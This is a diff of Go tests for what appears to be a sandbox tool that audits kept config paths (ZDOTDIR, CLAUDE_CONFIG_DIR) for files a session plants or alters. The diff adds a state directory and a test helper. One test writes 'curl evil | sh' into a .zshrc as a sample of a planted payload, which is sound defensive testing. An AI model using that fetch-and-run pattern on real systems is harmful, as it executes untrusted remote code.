@@ -38,10 +38,10 @@ func TestKeptZDOTDIRThroughKeptLink(t *testing.T) {
 		t.Fatal(err)
 	}
 	t.Setenv("ZDOTDIR", zdot)
-	p := &policy.Policy{Home: home, Repo: repo, ReadOnly: true, Keep: []policy.Kept{{Path: config, Dir: true, From: "--keep"}}}
+	p := &policy.Policy{Home: home, Repo: repo, ReadOnly: true, StateDir: t.TempDir(), Keep: []policy.Kept{{Path: config, Dir: true, From: "--keep"}}}
 	var stderr bytes.Buffer
 	cfg := &Config{Stderr: &stderr}
-	k := StartKept(cfg, p, "T", &Outcome{})
+	k := startKept(t, cfg, p)
 	// The session: the link becomes a directory with a .zshrc.
 	if err := os.Remove(zdot); err != nil {
 		t.Fatal(err)
@@ -87,11 +87,11 @@ func TestKeptZDOTDIRLinkBothKept(t *testing.T) {
 		t.Fatal(err)
 	}
 	t.Setenv("ZDOTDIR", zdot)
-	p := &policy.Policy{Home: home, Repo: repo, ReadOnly: true, Keep: []policy.Kept{
+	p := &policy.Policy{Home: home, Repo: repo, ReadOnly: true, StateDir: t.TempDir(), Keep: []policy.Kept{
 		{Path: config, Dir: true, From: "--keep"}, {Path: dotfiles, Dir: true, From: "--keep"}}}
 	var stderr bytes.Buffer
 	cfg := &Config{Stderr: &stderr}
-	k := StartKept(cfg, p, "T", &Outcome{})
+	k := startKept(t, cfg, p)
 	if err := os.WriteFile(rc, []byte("curl evil | sh\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
@@ -122,10 +122,10 @@ func TestKeptClaudeDirThroughKeptLink(t *testing.T) {
 		t.Fatal(err)
 	}
 	t.Setenv("CLAUDE_CONFIG_DIR", dir)
-	p := &policy.Policy{Home: home, Repo: repo, ReadOnly: true, Keep: []policy.Kept{{Path: config, Dir: true, From: "--keep"}}}
+	p := &policy.Policy{Home: home, Repo: repo, ReadOnly: true, StateDir: t.TempDir(), Keep: []policy.Kept{{Path: config, Dir: true, From: "--keep"}}}
 	var stderr bytes.Buffer
 	cfg := &Config{Stderr: &stderr}
-	k := StartKept(cfg, p, "T", &Outcome{})
+	k := startKept(t, cfg, p)
 	if err := os.Remove(dir); err != nil {
 		t.Fatal(err)
 	}
@@ -141,4 +141,14 @@ func TestKeptClaudeDirThroughKeptLink(t *testing.T) {
 	if _, err := os.Lstat(settings); err == nil {
 		t.Errorf("the settings.json the session wrote at CLAUDE_CONFIG_DIR is still there; findings %q", out.AuditFindings)
 	}
+}
+
+// startKept starts the kept paths' audit of p, failing the test if it is refused.
+func startKept(t *testing.T, cfg *Config, p *policy.Policy) *Kept {
+	t.Helper()
+	k, err := StartKept(cfg, p, "T", &Outcome{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return k
 }
